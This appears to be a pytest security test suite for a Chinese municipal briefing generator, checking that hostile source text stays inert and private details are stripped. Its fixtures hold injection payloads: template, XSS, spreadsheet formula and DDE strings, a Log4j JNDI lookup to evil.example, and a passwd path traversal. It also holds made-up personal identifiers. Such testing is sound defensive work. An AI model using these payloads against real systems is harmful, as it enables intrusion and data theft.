"""What a source says is only ever text: no markup, formula, link, path or log line of its own, no file or network opened for it,
and nothing that belongs to a private person in any format."""

from __future__ import annotations

import json
import re
import subprocess
import sys
import tempfile
import zipfile
from html.parser import HTMLParser
from pathlib import Path

import pypdfium2 as pdfium
import pytest

from briefing import resources

CONFIG = 'region = "云岭市"\nname = "云岭市情简报"\npublisher = "云岭市政府办公室"\n[[district]]\nname = "清河区"\n'
HOSTILE = (
    "{{7*7}}", "{%for x in y%}", "<b>粗</b>", "</script><script>alert(1)</script>", '=HYPERLINK("http://evil.example","x")',
    "javascript:alert(1)", "../../../etc/passwd", "&lt;img src=x onerror=1&gt;", "@cmd|' /C calc'!A0", "${jndi:ldap://evil.example/a}",
    "\ufdd0\ufdd1", "\ue000\ue001", "\\u003cscript",
)  # fmt: skip
PRIVATE = ("8797000", "13812345678", "410822197503124567", "abc_12345", "987654321", "zhang.san@163.com", "张建国")
STORY = (
    "全市受理诉求1.2万件，办结率98.5%，咨询电话0391-8797000，手机13812345678。村民张建国说，今年全村人均收入增长12.5%。"
    "清河区固定资产投资增长8.3%，身份证410822197503124567。清河区产业园项目总投资12亿元，微信号：abc_12345，已开工建设，"
    "存在用地手续未办结的问题，请联系QQ：987654321，邮箱zhang.san@163.com。市长李明在会上表示，全市一般公共预算收入130.5亿元，增长4.1%。\n"
)
RUN = """
import json, sys
seen = []
def hook(event, args):
    if event == "open" and isinstance(args[0], (str, bytes)):
        seen.append(("open", args[0].decode() if isinstance(args[0], bytes) else args[0]))
    elif event.startswith(("socket.", "subprocess.", "os.system", "os.exec", "os.posix_spawn", "os.spawn", "urllib.")):
        seen.append((event, ""))
sys.addaudithook(hook)
from briefing.cli import main
try:
    main(sys.argv[2:])
except SystemExit as stop:
    json.dump({"code": stop.code, "seen": seen}, open(sys.argv[1], "w"))
"""


@pytest.fixture(scope="module")
def built(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, subprocess.CompletedProcess[str], dict[str, object]]:
    """A briefing in every format from sources full of traps, built under an audit hook."""
    root = tmp_path_factory.mktemp("traps")
    folder = root / "来源"
    folder.mkdir()
    (folder / "briefing.toml").write_text(CONFIG, encoding="utf-8")
    lines = "".join(
        f"清河区{trap}产业园项目总投资{i + 2}.5亿元，已开工建设。全市{trap}产值增长{i}.7%。\n" for i, trap in enumerate(HOSTILE)
    )
    (folder / "a.txt").write_text(f"云岭市经济运行情况\n发布时间：2024-12-20\n{STORY}{lines}", encoding="utf-8")
    (folder / "b\n[ERROR] \x1b[31m{{7*7}}<b>.txt").write_bytes(bytes(range(256)))
    (folder / "c\r\n=1+1.txt").write_text(f"清河区<i>情况\n发布时间：2024-12-21\n{STORY}", encoding="utf-8")
    command = [
        sys.executable,
        "-c",
        RUN,
        str(root / "seen.json"),
        "build",
        str(folder),
        "-o",
        str(root / "out"),
        "--missing-glyph",
        "box",
    ]
    run = subprocess.run(
        [*command, "--format", "pdf,html,docx,xlsx,md,json"], capture_output=True, text=True, cwd=root, timeout=300
    )
    assert (root / "seen.json").exists(), run.stderr
    return root, run, json.loads((root / "seen.json").read_text())


def texts(folder: Path) -> dict[str, str]:
    """The text of every file of the issue, attachments and parts of packages included."""
    out: dict[str, str] = {}
    for path in folder.iterdir():
        data = path.read_bytes()
        if path.suffix in (".docx", ".xlsx"):
            with zipfile.ZipFile(path) as package:
                out |= {f"{path.name}/{name}": package.read(name).decode("utf-8", "replace") for name in package.namelist()}
        elif path.suffix == ".pdf":
            document = pdfium.PdfDocument(data)
            out[path.name] = "".join(page.get_textpage().get_text_range() for page in document)
            for at in range(document.count_attachments()):
                attached = document.get_attachment(at)
                out[f"{path.name}/{attached.get_name()}"] = bytes(attached.get_data()).decode("utf-8", "replace")
        else:
            out[path.name] = data.decode("utf-8")
    return out


def _links(page: str) -> list[str]:
    found: list[str] = []

    class Reader(HTMLParser):
        def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
            found.extend(
                value or "" for name, value in attrs if name in ("href", "src", "action", "xlink:href") or name[:2] == "on"
            )

    Reader().feed(page)
    return found


def test_the_build_ends_well(built: tuple[Path, subprocess.CompletedProcess[str], dict[str, object]]) -> None:
    _, run, seen = built
    assert seen["code"] == 0, run.stderr
    assert "Traceback" not in run.stderr


def test_nothing_is_opened_for_a_source(built: tuple[Path, subprocess.CompletedProcess[str], dict[str, object]]) -> None:
    root, _, seen = built
    package = Path(resources.__file__).parent
    home = Path.home()
    libraries = (home / ".cache", home / ".config/matplotlib", home / ".reportlab_settings", home / ".reportlab_mods")
    system = ("/dev/null", "/usr", "/lib", "/proc", "/etc/localtime", "/etc/mime.types", "/etc/os-release")
    own = (str(root), str(package), str(package.parents[1]), sys.prefix, sys.base_prefix)
    allowed = (*own, *system, *map(str, libraries))
    events = [tuple(event) for event in seen["seen"]]  # type: ignore[attr-defined]
    assert {kind for kind, _ in events} == {"open"}
    strange = {path for _, path in events if Path(path).is_absolute() and not path.startswith(allowed)}
    passing = re.compile(rf"{re.escape(tempfile.gettempdir())}/(?:briefing-\w+(?:/.*)?|etilqs_\w+|[a-z0-9_]{{8}})")  # of libraries
    strange = {path for path in strange if not passing.fullmatch(path)}
    assert strange == set()
    assert not [path for _, path in events if "passwd" in path or "evil" in path]


def test_a_log_line_is_one_line(built: tuple[Path, subprocess.CompletedProcess[str], dict[str, object]]) -> None:
    _, run, _ = built
    assert not [line for line in run.stderr.splitlines() if line.startswith("[ERROR]")]
    assert "\x1b" not in run.stderr and "\r" not in run.stderr


def test_no_trap_becomes_code(built: tuple[Path, subprocess.CompletedProcess[str], dict[str, object]]) -> None:
    root, _, _ = built
    found = texts(root / "out" / "2024-12")
    page = found["briefing.html"]
    assert "<script>alert" not in page and "<b>粗" not in page and "onerror=1>" not in page
    links = _links(page)
    assert [link for link in links if not link.startswith(("#", "http:", "https:", "mailto:", "data:", "blob:"))] == []
    assert not [link for link in links if "evil" in link]
    assert not [name for name, text in found.items() if name.startswith("ledger.xlsx/") and "<f>" in text]
    assert not [name for name, text in found.items() if name.endswith(".rels") and "evil" in text]
    assert not [name for name, text in found.items() if name.startswith("briefing.docx/word/document") and "<b>粗" in text]
    assert not [name for name, text in found.items() if "产业园" in text and re.search(r"清河区49产业", text)]
    assert b"/JavaScript" not in (data := (root / "out/2024-12/briefing.pdf").read_bytes()) and b"/Launch" not in data


def test_nothing_private_leaves_the_sources(built: tuple[Path, subprocess.CompletedProcess[str], dict[str, object]]) -> None:
    root, _, _ = built
    leaks = {(name, word) for name, text in texts(root / "out" / "2024-12").items() for word in PRIVATE if word in text}
    assert leaks == set()
    assert any("12.5" in text for text in texts(root / "out" / "2024-12").values()), "what is said beside it stays"
